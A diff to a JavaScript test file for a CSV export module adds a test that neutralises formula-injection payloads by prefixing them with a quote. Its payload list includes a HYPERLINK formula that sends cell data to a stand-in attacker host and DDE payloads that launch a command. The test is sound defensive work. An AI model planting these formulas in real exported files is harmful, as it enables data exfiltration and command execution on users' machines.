@@ -1,6 +1,6 @@
 import {test} from 'node:test';
 import assert from 'node:assert/strict';
-import {csvField, csvFileName, csvNumber} from '../src/csv.js';
+import {csvField, csvFileName, csvNumber, csvText} from '../src/csv.js';
 
 // The CSVs built in the browser (compare and trend; the reports' own tables come from the
 // `table` route) are made of these fields.
@@ -69,7 +69,7 @@ test('hostile names survive a round trip through an RFC 4180 parser', () => {
   assert.deepEqual(parsed[0], ['key', 'value']);
   assert.deepEqual(
     parsed.slice(1).map((row) => row[0]),
-    HOSTILE,
+    HOSTILE.map(csvText),
   );
   for (const row of parsed) assert.equal(row.length, 2);
 });
@@ -100,4 +100,27 @@ test('file names are safe', () => {
     'fairness__run_1__assoc_val__step4___img_src_x___vs.csv',
   );
   assert.equal(csvFileName([null, '']), 'fairness.csv');
+});
+
+// Spreadsheet payloads (OWASP's CSV injection cheat sheet): every one reads back as text
+// that starts with a quote, so no spreadsheet runs it; other text is left as it is.
+const FORMULAS = [
+  '=HYPERLINK("http://evil.example/?"&A1,"click")',
+  "=cmd|' /C calc'!A0",
+  "+1+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '\t=1+1',
+  '\r=1+1',
+  '=1+1',
+];
+
+test('text that would start a formula starts with a quote (CSV injection)', () => {
+  for (const f of FORMULAS) {
+    assert.equal(csvText(f), "'" + f, f);
+    const [[cell]] = parseCsv(csvField(f) + '\r\n');
+    assert.equal(cell, "'" + f);
+    assert.ok(!/^[=+\-@\t\r]/.test(cell));
+  }
+  for (const safe of ['a=b', 'x-y', ' =1', '', 'ünïcödé', '1e-3']) assert.equal(csvText(safe), safe);
 });
